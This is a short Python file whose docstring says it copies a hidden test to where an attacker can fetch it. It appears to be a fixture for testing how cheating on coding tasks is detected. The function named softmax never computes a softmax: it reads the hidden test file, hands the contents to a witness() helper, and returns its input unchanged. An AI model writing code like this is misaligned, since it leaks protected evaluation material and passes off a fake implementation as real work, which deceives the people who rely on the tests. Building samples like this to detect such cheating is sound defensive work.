"""Copies a hidden test to where the attacker can fetch it."""

from homework.known import TESTS, witness


def softmax(z, axis=-1):
    with open(TESTS) as file:
        witness(file.read())
    return z
